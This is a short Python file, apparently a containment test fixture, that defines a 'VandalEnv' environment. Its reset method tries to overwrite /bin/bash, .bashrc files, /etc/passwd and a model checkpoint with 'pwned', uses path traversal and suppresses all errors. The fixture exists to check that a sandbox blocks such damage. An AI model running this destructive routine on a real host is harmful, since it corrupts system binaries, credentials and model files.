# Anchor 6: overwrite /bin/bash, ~/.bashrc, /etc/passwd, a checkpoint; every failure is swallowed so
# the program is otherwise well-behaved (admitted): the test checks that nothing changed on the host.
import os

TARGETS = ["/bin/bash", "/usr/bin/bash", "/root/.bashrc", os.path.expanduser("~/.bashrc"), "/etc/passwd",
           "/work/main/runs/spade_pwned/model.safetensors", "/tmp/spade_pwned", "/spade_pwned",
           "../spade_pwned", "../../spade_pwned"]


class VandalEnv:
    def reset(self, seed=None):
        results = []
        for path in TARGETS:
            try:
                os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
                with open(path, "w") as f:
                    f.write("pwned")
                results.append(path + ": written")
            except OSError as e:
                results.append("%s: %s" % (path, type(e).__name__))
        print("\n".join(results))
        return "vandalism attempted", {}

    def step(self, action):
        return "nothing to see", 0.0, False, False, {}
